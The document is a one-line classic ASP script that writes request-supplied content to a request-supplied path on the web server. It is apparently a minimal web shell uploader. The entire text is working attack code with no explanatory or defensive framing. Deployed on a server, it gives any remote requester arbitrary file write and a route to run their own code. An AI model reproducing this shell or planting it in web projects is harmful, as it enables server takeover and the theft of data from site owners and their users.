<% Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set t = fs.CreateTextFile(Server.MapPath(Request("f")), True) : t.Write Request("d") : t.Close %>
